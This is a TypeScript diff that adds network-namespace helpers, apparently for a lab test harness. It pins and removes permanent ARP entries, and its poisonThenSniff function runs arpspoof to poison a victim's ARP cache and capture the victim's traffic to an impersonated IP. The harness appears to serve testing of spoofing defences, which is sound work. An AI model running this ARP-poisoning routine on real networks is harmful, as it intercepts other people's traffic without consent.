@@ -148,3 +148,45 @@ export async function neighbourMac(ns: Netns, ip: string): Promise<string | unde
     return undefined;
   }
 }
+
+/** A permanent neighbour entry: the MAC of `ip` known without asking ARP (Docker derives it from the IP). */
+export async function pinNeighbour(ns: Netns, iface: string, ip: string, mac: string): Promise<void> {
+  const r = await inNetns(ns, 'ip', ['neigh', 'replace', ip, 'lladdr', mac, 'dev', iface, 'nud', 'permanent'], 3000);
+  if (r.code !== 0) throw new Error(`ip neigh replace ${ip}: ${r.stderr.trim()}`);
+}
+
+/** Removes a neighbour entry (permanent ones too). */
+export async function forgetNeighbour(ns: Netns, iface: string, ip: string): Promise<void> {
+  await inNetns(ns, 'ip', ['neigh', 'del', ip, 'dev', iface], 3000);
+}
+
+/**
+ * A man in the middle: `attacker` runs arpspoof to tell `victim` that
+ * `impersonated`'s IP is at the attacker's MAC, then captures on its own
+ * interface while the victim sends to the impersonated address. Returns the
+ * MAC the victim then has for that address and how many of the victim's
+ * packets to it reached the attacker.
+ */
+export async function poisonThenSniff(
+  attacker: Netns,
+  iface: string,
+  victim: { ns: Netns; ip: string },
+  impersonated: { ip: string; port: number },
+  o: { poisonMs: number; bytes: number },
+): Promise<{ victimHas?: string; captured: number }> {
+  const [c, a] = nsArgs(attacker, 'arpspoof', ['-i', iface, '-t', victim.ip, impersonated.ip]);
+  const spoofer = spawn(c, a, { stdio: 'ignore' });
+  spoofer.on('error', () => undefined);
+  try {
+    await new Promise((r) => setTimeout(r, o.poisonMs));
+    const victimHas = await neighbourMac(victim.ns, impersonated.ip);
+    const captured = await captureWhile(attacker, iface, `tcp and src host ${victim.ip} and dst host ${impersonated.ip}`, 1500, () =>
+      transfers(victim.ns, impersonated.ip, impersonated.port, o.bytes, 3),
+    );
+    return { ...(victimHas ? { victimHas } : {}), captured };
+  } finally {
+    spoofer.kill('SIGINT');
+    await new Promise((r) => setTimeout(r, 300));
+    spoofer.kill('SIGKILL');
+  }
+}
